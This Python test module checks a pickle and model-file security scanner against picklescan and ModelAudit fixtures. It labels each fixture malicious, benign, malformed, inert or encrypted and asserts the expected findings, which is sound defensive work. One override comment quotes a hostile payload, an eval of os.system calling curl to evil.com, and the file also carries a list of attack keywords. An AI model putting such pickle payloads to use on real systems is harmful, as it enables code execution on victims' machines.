"""Third-party model fixtures (picklescan's and ModelAudit's test data) scanned end to end.

The files live in ``../shared/data/models`` (outside the repository); every test here is skipped when it is
absent. Each file gets a label from its name, except where disassembling it (``pickletools``, which only
parses) showed the name does not describe what loading it does; those overrides are listed with the reason.
Formats a later issue covers (Keras .h5, TensorFlow .pb, safetensors, Jinja2 templates, JSON manifests, ONNX,
skops) are not selected.
"""

from __future__ import annotations

import io
import pickletools
from collections import Counter
from collections.abc import Callable
from pathlib import Path, PurePosixPath

import pytest

from bastion.findings import ScanResult, Severity, TargetStatus

CORPUS = Path(__file__).resolve().parents[2].parent / "shared" / "data" / "models"

MALICIOUS, BENIGN, MALFORMED = "malicious", "benign", "malformed"
INERT = "inert"
"""Loading runs nothing: the 'payload' is only text (base64/hex) that an application would have to decode and
unpickle itself. BST-PKL-010 covers embedded *bytes* pickles only, so no finding is required (or forbidden)."""
UNKNOWN_GLOBAL = "unknown-global"
"""Imports a class outside the allow-list (and nothing dangerous): exactly a medium BST-PKL-005."""
ENCRYPTED = "encrypted-flag"
"""A member flagged encrypted: Bastion does not read it and says so (incomplete, exit 2)."""

# Labels decided by disassembly where the name alone is wrong or silent.
OVERRIDES: dict[str, tuple[str, str]] = {
    # picklescan-tests
    "picklescan-tests/pytorch_model.bin": (
        BENIGN, "legacy torch.save of a state dict: stacked pickles, OrderedDict + torch._utils._rebuild_tensor_v2"),
    "picklescan-tests/new_pytorch_model.bin": (
        BENIGN, "zip torch.save of a state dict: archive/data.pkl imports only _rebuild_tensor_v2, FloatStorage, "
                "OrderedDict"),
    "picklescan-tests/malicious1_0x1.zip": (
        ENCRYPTED, "model/config.pkl (builtins.eval) is stored as plain text but carries the encrypted flag 0x1; "
                   "zipfile asks for a password and torch 2.13's miniz refuses it ('unsupported encryption')"),
    # modelaudit-assets
    "modelaudit-assets/samples/pickles/decode_exec_chain.pkl": (
        INERT, "a dict of str only (no GLOBAL): base64 of a builtins.print pickle and the text \"os.system(...)\""),
    "modelaudit-assets/samples/pickles/nested_pickle_base64.pkl": (
        INERT, "a dict of str only (no GLOBAL): one value is base64 of a pickle calling builtins.print"),
    "modelaudit-assets/samples/pickles/nested_pickle_hex.pkl": (
        INERT, "a dict of str only (no GLOBAL): one value is hex of a pickle calling builtins.print"),
    "modelaudit-assets/samples/pickles/dill_func.pkl": (
        MALICIOUS, "dill._dill._create_function(_create_code(bytecode...)): builds a function from bytecode on load"),
    "modelaudit-assets/samples/pickles/simple_nested.pkl": (
        BENIGN, "the embedded SHORT_BINBYTES pickle is the plain dict {'malicious': 'data'}"),
    "modelaudit-assets/scenarios/license_scenarios/agpl_component/agpl_model.pkl": (
        UNKNOWN_GLOBAL, "NEWOBJ of __main__.AGPLNeuralNetwork with numpy arrays (_reconstruct, ndarray, dtype)"),
    "modelaudit-assets/scenarios/license_scenarios/mixed_licenses/mixed_model.pkl": (
        BENIGN, "a dict of str and a list of str; no GLOBAL"),
    "modelaudit-assets/scenarios/license_scenarios/mit_model/model_weights.pkl": (
        BENIGN, "a dict of ints, a float and a str; no GLOBAL"),
    "modelaudit-assets/scenarios/security_scenarios/mixed_malicious_model/model.pkl": (
        MALICIOUS, "builtins.eval(\"__import__('os').system('curl http://evil.com')\") via STACK_GLOBAL + REDUCE"),
}

_MODELAUDIT_MALICIOUS = ("malicious", "exploit", "attack", "evil", "nested_pickle", "decode_exec", "dill_func",
                         "path_traversal")
_MODELAUDIT_BENIGN = ("safe", "benign", "simple_nested", "mit_model", "model_weights")


def _picklescan_label(name: str) -> str | None:
    if name.startswith(("benign", "safe")):
        return BENIGN
    if name.startswith("malicious") or "sploit" in name or "bypass" in name:
        return MALICIOUS
    if name.startswith(("bad_", "broken_", "not_a_pickle")):
        return MALFORMED
    return None


def _modelaudit_selected(rel: PurePosixPath) -> bool:
    text = rel.as_posix()
    if text.startswith(("exploits/", "pickles/", "samples/pickles/", "samples/pytorch/", "samples/archives/")):
        return True
    return text.startswith("scenarios/") and rel.suffix == ".pkl"


def _modelaudit_label(rel: PurePosixPath) -> str | None:
    text = rel.as_posix().lower()
    if any(token in text for token in _MODELAUDIT_MALICIOUS):
        return MALICIOUS
    if any(token in text for token in _MODELAUDIT_BENIGN):
        return BENIGN
    return None


def _fixtures() -> list[tuple[str, str | None]]:
    """(path relative to the corpus, label) for every selected file; empty when the corpus is absent."""
    chosen: list[tuple[str, str | None]] = []
    picklescan = CORPUS / "picklescan-tests"
    if picklescan.is_dir():
        for path in sorted(picklescan.iterdir()):
            if path.is_file() and path.name != "SOURCE.txt":
                rel = f"picklescan-tests/{path.name}"
                chosen.append((rel, OVERRIDES[rel][0] if rel in OVERRIDES else _picklescan_label(path.name)))
    modelaudit = CORPUS / "modelaudit-assets"
    if modelaudit.is_dir():
        for path in sorted(modelaudit.rglob("*")):
            inner = PurePosixPath(path.relative_to(modelaudit).as_posix())
            if path.is_file() and _modelaudit_selected(inner):
                rel = f"modelaudit-assets/{inner}"
                chosen.append((rel, OVERRIDES[rel][0] if rel in OVERRIDES else _modelaudit_label(inner)))
    return chosen


FIXTURES = _fixtures()
IDS = [rel for rel, _ in FIXTURES]

_results: dict[str, ScanResult] = {}


def _scan(shared_models: Path, scan_file: Callable[..., ScanResult], rel: str) -> ScanResult:
    if rel not in _results:
        _results[rel] = scan_file(shared_models / rel)
    return _results[rel]


def _describe(result: ScanResult) -> str:
    target = result.targets[0]
    found = "; ".join(f"{f.rule_id} {f.severity.label} {f.title}" for f in result.findings) or "no findings"
    return f"kind={target.kind} status={target.status.value} reason={target.reason!r}: {found}"


def _imports(data: bytes) -> tuple[list[str], bool]:
    """The globals a pickle stream names (GLOBAL, INST, STACK_GLOBAL operands) and whether it parses to STOP."""
    names: list[str] = []
    strings: list[str] = []
    try:
        for op, arg, _pos in pickletools.genops(io.BytesIO(data)):
            if op.name in ("GLOBAL", "INST"):
                names.append(str(arg))
            elif op.name == "STACK_GLOBAL":
                names.append(" ".join(strings[-2:]))
            if isinstance(arg, str):
                strings.append(arg)
    except (ValueError, EOFError):
        return names, False
    return names, True


def _parses(data: bytes) -> bool:
    return _imports(data)[1]


def test_corpus_selection_is_labelled() -> None:
    """Every selected file has a label, and every override names a file that exists."""
    if not FIXTURES:
        pytest.skip("../shared/data/models is absent: corpus tests need the shared test material")
    unlabelled = [rel for rel, label in FIXTURES if label is None]
    assert not unlabelled, f"files without a label: {unlabelled}"
    missing = [rel for rel in OVERRIDES if not (CORPUS / rel).is_file()]
    assert not missing, f"overrides naming absent files: {missing}"


@pytest.mark.parametrize(
    ("rel", "expect"),
    [
        ("modelaudit-assets/samples/pickles/decode_exec_chain.pkl", []),
        ("modelaudit-assets/samples/pickles/nested_pickle_base64.pkl", []),
        ("modelaudit-assets/samples/pickles/nested_pickle_hex.pkl", []),
        ("modelaudit-assets/scenarios/license_scenarios/mixed_licenses/mixed_model.pkl", []),
        ("modelaudit-assets/scenarios/license_scenarios/mit_model/model_weights.pkl", []),
        ("modelaudit-assets/samples/pickles/simple_nested.pkl", []),
        ("modelaudit-assets/scenarios/license_scenarios/agpl_component/agpl_model.pkl",
         ["__main__ AGPLNeuralNetwork", "numpy.core.multiarray _reconstruct", "numpy ndarray", "numpy dtype"]),
        ("modelaudit-assets/samples/pickles/dill_func.pkl",
         ["dill._dill _create_function", "dill._dill _create_code", "tests.test_pickle_scanner __dict__"]),
        ("modelaudit-assets/scenarios/security_scenarios/mixed_malicious_model/model.pkl", ["builtins eval"]),
    ],
)
def test_override_matches_disassembly(shared_models: Path, rel: str, expect: list[str]) -> None:
    """The overrides above rest on what pickletools (a parser only) sees in each file."""
    names, _ = _imports((shared_models / rel).read_bytes())
    # STACK_GLOBAL's module may come from the memo (BINGET), which this helper does not follow: compare names.
    assert sorted({n.split()[-1] for n in names}) == sorted({e.split()[-1] for e in expect})


@pytest.mark.parametrize(("rel", "label"), FIXTURES, ids=IDS)
def test_fixture(shared_models: Path, scan_file: Callable[..., ScanResult], rel: str, label: str | None) -> None:
    result = _scan(shared_models, scan_file, rel)
    target = result.targets[0]
    worst = result.worst()
    why = f"{rel} ({label}): {_describe(result)}"
    if label == MALICIOUS:
        assert worst is not None and worst >= Severity.HIGH, why
        assert result.exit_code(Severity.MEDIUM) == 1, why
    elif label == BENIGN:
        assert not [f for f in result.findings if f.severity >= Severity.MEDIUM], why
        assert target.status is not TargetStatus.SKIPPED, why
    elif label == MALFORMED:
        if target.status is TargetStatus.SCANNED and not result.findings:
            assert _parses((shared_models / rel).read_bytes()), f"silently passed although it does not parse: {why}"
        else:
            assert result.exit_code(Severity.MEDIUM) != 0, why
    elif label == INERT:
        assert target.status is TargetStatus.SCANNED and target.kind == "pickle", why
    elif label == UNKNOWN_GLOBAL:
        assert worst == Severity.MEDIUM, why
        assert {f.rule_id for f in result.findings} == {"BST-PKL-005"}, why
    elif label == ENCRYPTED:
        assert target.status is TargetStatus.INCOMPLETE and "encrypted" in (target.reason or ""), why
        assert result.exit_code(Severity.MEDIUM) == 2, why
    else:
        pytest.fail(f"unlabelled fixture {why}")


def test_detection_summary(shared_models: Path, scan_file: Callable[..., ScanResult]) -> None:
    """Print the detection rates (run pytest with -s to see them) and require them to be complete."""
    counts: Counter[str] = Counter()
    misses: list[str] = []
    for rel, label in FIXTURES:
        result = _scan(shared_models, scan_file, rel)
        worst = result.worst()
        counts[f"{label}:total"] += 1
        if label == MALICIOUS:
            ok = worst is not None and worst >= Severity.HIGH
        elif label == BENIGN:
            ok = worst is None or worst < Severity.MEDIUM
        else:
            ok = True
        counts[f"{label}:ok"] += ok
        if not ok:
            misses.append(f"{rel}: {_describe(result)}")
    print(
        f"\ncorpus: {len(FIXTURES)} files; malicious detected {counts['malicious:ok']}/{counts['malicious:total']}; "
        f"benign clean {counts['benign:ok']}/{counts['benign:total']}; malformed {counts['malformed:total']}; "
        f"inert {counts['inert:total']}; unknown-global {counts['unknown-global:total']}; "
        f"encrypted-flag {counts['encrypted-flag:total']}"
    )
    assert counts["malicious:total"] > 0 and counts["benign:total"] > 0
    assert not misses, "\n".join(misses)
